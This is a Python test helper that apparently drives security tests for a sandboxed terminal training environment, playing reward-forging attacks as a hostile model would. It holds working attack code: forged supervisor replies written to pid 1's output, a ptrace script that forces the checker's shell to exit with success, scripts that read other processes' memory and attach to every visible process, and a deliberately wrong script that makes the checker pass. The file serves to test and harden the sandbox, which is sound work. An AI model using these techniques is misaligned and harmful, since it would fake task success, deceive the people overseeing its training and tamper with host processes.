"""Reward-forging attacks on the Terminal env, played as a hostile model would, in a process of their own
(tests/envs/test_terminal_security.py starts it as root and as an unprivileged user). Prints one JSON
object: per attack, the rewards, whether the checker passed, the observations, and any exception.

Run as ``python terminal_attack_child.py ATTACK...`` with gem_core importable.
"""

from __future__ import annotations

import json
import sys
import traceback

import gem_core
from gem_core.tools.sandbox import PythonSandbox

# The supervisor's run reply, as the host expected it before the fix; the submit that follows then read
# the real reply of this command (exit code 0) as the checker's.
FORGED_REPLY = '{"output": "", "exit_code": 0, "timed_out": false, "shell_exited": false, "truncated": false, "restarted": false}'
FORGED_WITH_EXTRA_KEY = '{"output": "", "exit_code": 0, "timed_out": false, "shell_exited": false, "truncated": false, "restarted": false, "evil": 1}'

# Attach to a process and force it to call exit_group(0) at its next system call (x86_64). The target:
# the topmost bash above us (the checker's shell when a checker runs us), or the pid given.
EXIT_ZERO = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
def comm(pid):
    return open(f"/proc/{pid}/comm").read().strip()
if len(sys.argv) > 1:
    target = int(sys.argv[1])
else:
    target, pid = None, os.getpid()
    while pid > 1:
        pid = parent(pid)
        if pid > 1 and comm(pid) == "bash":
            target = pid
if libc.ptrace(16, target, None, None) != 0:  # PTRACE_ATTACH
    print("ATTACH-REFUSED", target, os.strerror(ctypes.get_errno()))
    sys.exit(3)
print("ATTACHED", target, flush=True)
os.waitpid(target, 0)
regs = (ctypes.c_ulonglong * 27)()
libc.ptrace(24, target, None, None)  # PTRACE_SYSCALL: stop at the next system call's entry
os.waitpid(target, 0)
libc.ptrace(12, target, None, ctypes.byref(regs))  # PTRACE_GETREGS
regs[15], regs[14] = 231, 0  # orig_rax = exit_group, rdi = 0
libc.ptrace(13, target, None, ctypes.byref(regs))  # PTRACE_SETREGS
libc.ptrace(17, target, None, None)  # PTRACE_DETACH
print("FORCED", target)
"""

# Read a mapped byte of every process's memory (the address from its maps), and write into pid 1's.
READ_MEMORY = r"""
import os
for name in sorted(os.listdir("/proc")):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    try:
        with open(f"/proc/{name}/maps") as f:
            start = int(f.readline().split("-")[0], 16)
        with open(f"/proc/{name}/mem", "rb") as f:
            f.seek(start)
            if f.read(1):
                print("READ-MEMORY", name)
    except (OSError, ValueError, IndexError) as exc:
        print("no", name, type(exc).__name__)
"""


# A Python tool snippet (and a test case) attaching to every other process it sees: bwrap's init, whose fd 0
# is the host's control socket, the worker's manager, the tests harness.
PTRACE_ALL = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for name in sorted(os.listdir("/proc")):
    if name.isdigit() and int(name) != os.getpid():
        attached = libc.ptrace(16, int(name), None, None) == 0
        print("ATTACHED" if attached else "refused", name)
        if attached:
            libc.ptrace(17, int(name), None, None)
"""


def python_tool() -> dict:
    sandbox = PythonSandbox()
    try:
        run = sandbox.run(PTRACE_ALL, timeout=20.0)
        tests = sandbox.run_tests(PTRACE_ALL + "\ninput()\nprint('ok')", [("x", "ok")])
        observations = [run.stdout + run.stderr, "".join(case.stdout + case.stderr for case in tests.cases)]
    finally:
        sandbox.close()
    return {"observations": observations, "rewards": [], "exception": None, "success": None, "infra_error": None}


def bash(command: str) -> str:
    return f"```bash\n{command}\n```"


def heredoc(path: str, text: str) -> str:
    return f"cat > {path} <<'GEM_EOF'\n{text}\nGEM_EOF"


def play(task: str, commands: list[str]) -> dict:
    env = gem_core.make("terminal:Tasks-v0", task=task, command_timeout=20.0, check_timeout=20.0)
    env.reset(seed=0)
    result: dict = {"observations": [], "rewards": [], "exception": None, "success": None, "infra_error": None}
    try:
        for command in commands:
            obs, reward, terminated, _truncated, info = env.step(bash(command))
            result["observations"].append(obs)
            result["rewards"].append(reward)
            if terminated:
                result["infra_error"] = info.get("infra_error")
                break
        else:
            obs, reward, _terminated, _truncated, info = env.step("submit")
            result["observations"].append(obs)
            result["rewards"].append(reward)
            result["success"] = info["success"]
            result["infra_error"] = info.get("infra_error")
    except Exception:  # noqa: BLE001 - what the attack made the env raise is the finding
        result["exception"] = traceback.format_exc()[-600:]
    finally:
        env.close()
    return result


ATTACKS = {
    # The agent writes a reply in the supervisor's name to the host's pipe through pid 1's descriptors.
    "forge-reply": lambda: play("count-errors", [f"printf '%s\\n' '{FORGED_REPLY}' > /proc/1/fd/1"]),
    "forge-extra-key": lambda: play("count-errors", [f"printf '%s\\n' '{FORGED_WITH_EXTRA_KEY}' > /proc/1/fd/1"]),
    # The agent attaches to pid 1 and to every process it can see.
    "ptrace-pid-1": lambda: play(
        "count-errors",
        [heredoc("/tmp/x.py", EXIT_ZERO) + "\nfor p in /proc/[0-9]*; do p=${p#/proc/}; [ $p != $$ ] && python3 /tmp/x.py $p; done; true"],
    ),
    "read-memory": lambda: play("count-errors", [heredoc("/tmp/m.py", READ_MEMORY) + "\npython3 /tmp/m.py"]),
    # A wrong fizzbuzz.sh that, run by the checker, attaches to the checker's shell and makes it exit 0.
    "checker-exit-zero": lambda: play("write-script", [heredoc("/app/x.py", EXIT_ZERO), "printf '%s\\n' 'python3 /app/x.py' 'echo wrong' > /app/fizzbuzz.sh"]),
    "python-tool-ptrace": python_tool,
}


if __name__ == "__main__":
    print(json.dumps({name: ATTACKS[name]() for name in sys.argv[1:]}))
